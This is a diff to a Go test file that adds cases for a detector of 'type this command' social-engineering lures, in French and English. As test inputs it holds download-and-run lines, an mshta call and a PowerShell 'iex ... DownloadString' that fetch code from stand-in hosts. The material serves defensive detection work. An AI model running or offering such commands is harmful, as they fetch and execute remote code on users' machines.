@@ -65,3 +65,31 @@ func TestShownCommand(t *testing.T) {
 		t.Error("a remote command shown to paste: not found")
 	}
 }
+
+// A download-and-run line to type into the Run box is the same step
+// without the clipboard; an installer's "curl … | sh" in a terminal and a
+// PowerShell cmdlet typed are not read so.
+func TestTypedCommand(t *testing.T) {
+	for _, c := range []struct {
+		text string
+		want bool
+	}{
+		{"Appuyez sur Windows + R, tapez la commande suivante puis Entrée : mshta https://maj-poste.example/p.hta", true},
+		{"Open PowerShell and type: iex (New-Object Net.WebClient).DownloadString('https://fix.example/a')", true},
+		{"Open a terminal and run: curl -fsSL https://get.example.org/install.sh | sh", false},
+		{"Ouvrez PowerShell et tapez Get-Service spooler | Restart-Service", false},
+		{"Windows + R, tapez \\\\srv-fichiers\\partage puis Entrée.", false},
+	} {
+		if got := TypedCommand(c.text); (got != "") != c.want {
+			t.Errorf("TypedCommand(%q) = %q, want found=%v", c.text, got, c.want)
+		}
+	}
+}
+
+// An installer's line shown to paste into Terminal is pasted knowingly.
+func TestShownInstallerLine(t *testing.T) {
+	text := "Open Terminal, paste the following line and press Return:\n/bin/bash -c \"$(curl -fsSL https://install.example.org/install.sh)\" or curl -fsSL https://get.example.org | sh"
+	if got := Instruction(text); got != "" {
+		t.Errorf("an installer's line shown to paste: %q", got)
+	}
+}
